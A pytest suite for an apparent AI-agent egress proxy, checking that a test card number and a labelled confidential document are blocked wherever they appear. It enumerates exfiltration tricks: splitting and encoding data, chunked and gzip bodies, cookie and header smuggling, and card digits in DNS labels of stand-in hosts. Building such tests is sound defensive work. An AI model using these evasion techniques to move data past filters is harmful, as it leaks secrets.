"""Every dress, sent by a real client: not one marked byte arrives, and the benign twin of each arrives unchanged."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterator

import httpx
import pytest

from support.dressing import ALL, TURNED
from support.installation import Installation, fresh
from support.installation_rules import AGENTS, RULES
from support.installation_upstream import answering
from support.packing import PACKED, SEALED, SHOWN, pdf, word, zipped

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]

MARKED = "4012888888881881"
TWIN = "4012888888881880"
"""Both are numbers; only the first is a card's."""
DRESSED = ALL | TURNED
LABELLED = RULES.replace(
    "{match: {host: en.wiki.example}, tier: external}",
    "{match: {host: en.wiki.example}, tier: external, label: confidential}",
)
LABELLED = LABELLED.replace("sources:\n", 'sources:\n  - {match: {host: "*.relay.example"}, tier: external}\n')
LABELLED = LABELLED.replace("egress:\n", "egress:\n  labels: {confidential: {to: [internal]}}\n")
REPORT = "The harbour master counted forty cranes before the tide turned, and sold the northern quay to nobody at all. "
DOCUMENTS = {
    "page": REPORT.encode(),
    "document": word(REPORT),
    "pdf": pdf(REPORT),
    "archive": zipped({"a/report.txt": REPORT}),
}


def world(request: bytes, send) -> None:
    """As ever; under `/report/KIND`, a confidential document."""
    path = request.split(b" ", 2)[1].decode()
    if not path.startswith("/report/"):
        answering(request, send)
        return
    document = DOCUMENTS[path.rpartition("/")[2]]
    kind = "text/plain" if path.endswith("page") else "application/octet-stream"
    send(f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(document)}\r\n\r\n".encode() + document)


@pytest.fixture(scope="module")
def own(tmp_path_factory) -> Iterator[Installation]:
    installation = Installation(tmp_path_factory.mktemp("dresses"), rules=LABELLED)
    installation.start()
    installation.upstream.answer = world
    try:
        yield installation
    finally:
        assert installation.stop() == 0, installation.said()


@pytest.fixture(scope="module")
def run(own):
    return own.run("clerk")


@pytest.fixture(scope="module")
def agent(own) -> Iterator[httpx.Client]:
    """httpx, through the proxy, as agents use it."""
    clerk = AGENTS["clerk"]
    proxy = f"http://{clerk.name}:{clerk.secret}@127.0.0.1:{own.proxy_port}"
    with httpx.Client(proxy=proxy, verify=own.bundle, timeout=60.0) as client:
        yield client


@pytest.fixture
def order(own, run, agent):
    """Sends an order of its own, however httpx is told to; gives the answer and the order's name."""

    def send(*, query: str = "", **request) -> tuple[httpx.Response, str]:
        name = fresh("o")
        headers = {"AISecOps-Run": run.run_id, **own.with_token(run, "orders.write", f"orders.{name}")}
        headers |= request.pop("headers", {})
        return agent.post(f"https://db.internal/orders/{name}{query}", headers=headers, **request), name

    return send


def refused(said: httpx.Response, code: str = "egress_blocked") -> dict:
    assert said.headers["content-type"] == "application/problem+json", said.text
    problem = said.json()
    assert problem["code"] == code, problem
    assert MARKED not in said.text
    return problem


@pytest.mark.parametrize("dress", DRESSED)
def test_a_dressed_card_stays_and_its_twin_leaves_unchanged(own, order, dress):
    said, name = order(json={"note": DRESSED[dress](MARKED)})

    finding = refused(said)["findings"][0]
    assert (finding["entity"], finding["where"].removeprefix("inside:")[:10]) == ("CREDIT_CARD", "body:/note")
    assert finding["fingerprint"]
    assert own.received(name) == []

    body = json.dumps({"note": DRESSED[dress](TWIN)}).encode()
    said, name = order(content=body, headers={"Content-Type": "application/json"})
    assert said.status_code == 200, said.text
    assert own.received(name)[-1].endswith(b"\r\n\r\n" + body)


@pytest.mark.parametrize("kind", PACKED)
def test_an_uploaded_file_with_a_card_stays_and_its_twin_leaves_unchanged(own, order, kind):
    said, name = order(files={"file": ("report.bin", PACKED[kind](f"number {MARKED} of it"))})

    finding = refused(said)["findings"][0]
    assert finding["where"].removeprefix("inside:").startswith("upload:file:")
    assert own.received(name) == []

    twin = PACKED[kind](f"number {TWIN} of it")
    said, name = order(files={"file": ("report.bin", twin)})
    assert said.status_code == 200, said.text
    assert twin in own.received(name)[-1]


@pytest.mark.parametrize("kind", ["document", "pdf", "tar.gz", "mail"])
def test_a_file_in_base64_in_json_is_opened_too(own, order, kind):
    for marked, code in ((MARKED, 403), (TWIN, 200)):
        encoded = base64.b64encode(PACKED[kind](f"number {marked} of it")).decode()
        for note in (encoded, f"see the attachment: {encoded} and answer"):
            said, name = order(json={"file": note})
            assert said.status_code == code, said.text
            assert bool(own.received(name)) is (code == 200)


@pytest.mark.parametrize("kind", [*SEALED, *SHOWN])
def test_a_file_that_nobody_can_read_stays(own, order, kind):
    data = SEALED[kind] if kind in SEALED else SHOWN[kind]("nothing to see")
    for request in (
        {"files": {"file": ("report.bin", data)}},
        {"content": data},
        {"json": {"file": base64.b64encode(data).decode()}},
    ):
        if kind == "unknown" and "json" in request:
            continue  # noise in a text is no file
        said, name = order(**request)
        refused(said, "unreadable")
        assert own.received(name) == []


def cut(value: str, parts: int) -> list[str]:
    size = len(value) // parts
    return [value[at : at + size] for at in range(0, len(value), size)]


PLACES = {
    "items": lambda value: {"json": {"rows": cut(value, 4)}},
    "characters": lambda value: {"json": {"rows": list(value)}},
    "digits": lambda value: {"json": {"rows": [int(one) for one in value]}},
    "codes": lambda value: {"json": {"rows": [ord(one) for one in value]}},
    "fields": lambda value: {"json": {"a": cut(value, 2)[0], "b": cut(value, 2)[1]}},
    "fields with words": lambda value: {"json": {"a": f"it is {value[:7]}", "n": 1, "b": f"{value[7:]} for now"}},
    "form": lambda value: {"data": {f"f{n}": part for n, part in enumerate(cut(value, 4))}},
    "query": lambda value: {"query": f"?a={value[:7]}&b={value[7:]}", "json": {}},
    "path of a query": lambda value: {"query": f"?{value}=1", "json": {}},
    "cookie": lambda value: {"headers": {"Cookie": f"seen={value}"}, "json": {}},
    "user agent": lambda value: {"headers": {"User-Agent": f"agent/{value}"}, "json": {}},
    "file name": lambda value: {"files": {"file": (f"{value}.txt", b"nothing")}},
    "key": lambda value: {"json": {value: 1}},
}


@pytest.mark.parametrize("place", PLACES)
def test_a_card_stays_wherever_and_in_however_many_pieces_it_stands(own, order, place):
    said, name = order(**PLACES[place](MARKED))
    refused(said)
    assert own.received(name) == []

    said, name = order(**PLACES[place](TWIN))
    assert said.status_code == 200, said.text
    assert own.received(name)


def in_chunks(body: bytes, size: int) -> Iterator[bytes]:
    """As httpx sends what it does not have whole: each piece is a chunk of its own (RFC 9112 7.1)."""
    return (body[at : at + size] for at in range(0, len(body), size))


def multipart(value: str) -> bytes:
    name = 'Content-Disposition: form-data; name="note"'
    return f"--cut\r\n{name}\r\n\r\nnumber {value} of it\r\n--cut--\r\n".encode()


CHUNKED = {
    "text": ("text/plain", lambda value: f"number {value} of it".encode(), ""),
    "json": ("application/json", lambda value: json.dumps({"note": f"number {value} of it"}).encode(), ""),
    "multipart": ("multipart/form-data; boundary=cut", multipart, ""),
    "gzip": ("text/plain", lambda value: gzip.compress(f"number {value} of it".encode() * 5, mtime=0), "gzip"),
    "gzip-json": ("application/json", lambda value: gzip.compress(json.dumps([value, "x"]).encode(), mtime=0), "gzip"),
}


@pytest.mark.parametrize("size", [1, 14])
@pytest.mark.parametrize("kind", CHUNKED)
def test_a_card_that_is_cut_over_chunks_of_a_body_stays_and_its_twin_leaves_unchanged(own, order, kind, size):
    media_type, written, coding = CHUNKED[kind]
    headers = {"Content-Type": media_type} | ({"Content-Encoding": coding} if coding else {})
    said, name = order(content=in_chunks(written(MARKED), size), headers=headers)
    assert said.request.headers["transfer-encoding"] == "chunked"
    refused(said)
    assert own.received(name) == []

    twin = written(TWIN)
    said, name = order(content=in_chunks(twin, size), headers=headers)
    assert said.status_code == 200, said.text
    assert twin in own.received(name)[-1]


@pytest.mark.parametrize(
    ("labels", "where"),
    [(MARKED, "host:"), (f"{MARKED[:8]}.{MARKED[8:]}", "joined:host:"), (".".join(cut(MARKED, 4)), "host:")],
)
def test_a_card_in_the_labels_of_a_name_is_stopped_before_the_name_is_looked_up(own, run, agent, labels, where):
    headers = {"AISecOps-Run": run.run_id}
    said = agent.get(f"https://{labels}.relay.example/", headers=headers)
    assert refused(said)["findings"][0]["where"] == where
    twin = labels[:-1] + "0"
    said = agent.get(f"https://{twin}.relay.example/", headers=headers)
    assert "cannot be resolved" in refused(said, "destination_denied")["detail"]  # it was asked for, and nobody has it


HALF = len(REPORT) // 2
PIECES = {
    "half of it": REPORT[:HALF],
    "the other half in base64": base64.b64encode(REPORT[HALF:].encode()).decode(),
    "in hexadecimal of base64": base64.b64encode(REPORT[20:90].encode()).hex(),
    "in a document": base64.b64encode(word(REPORT[10:95])).decode(),
    "in a PDF in an archive": base64.b64encode(zipped({"x.pdf": pdf(REPORT[5:80])})).decode(),
}


@pytest.mark.parametrize("kind", DOCUMENTS)
def test_a_confidential_document_is_stopped_in_pieces_and_named(own, run, agent, kind):
    headers = {"AISecOps-Run": run.run_id}
    fetched = agent.get(f"https://en.wiki.example/report/{kind}", headers=headers)
    assert fetched.content == DOCUMENTS[kind]

    for words in PIECES.values():
        name = fresh("m")
        token = own.with_token(run, "mail.send", "mail.contacts.ann")
        body = {"to": "ann", "price": 0.01, "mark": name, "text": f"as promised: {words}"}
        said = agent.post("https://mail.example/send", headers=headers | token, json=body)
        problem = refused(said)
        assert "https://en.wiki.example" in problem["detail"]
        assert own.received(name) == []


def test_what_is_not_of_the_document_leaves(own, run, agent):
    name = fresh("m")
    headers = {"AISecOps-Run": run.run_id, **own.with_token(run, "mail.send", "mail.contacts.ann")}
    letter = base64.b64encode(word("Dear Ann, the meeting about the harbour is on Tuesday.")).decode()
    said = agent.post(
        "https://mail.example/send", headers=headers, json={"to": "ann", "price": 0.01, "mark": name, "text": letter}
    )
    assert said.status_code == 200, said.text
    assert own.arrived(name) == 1
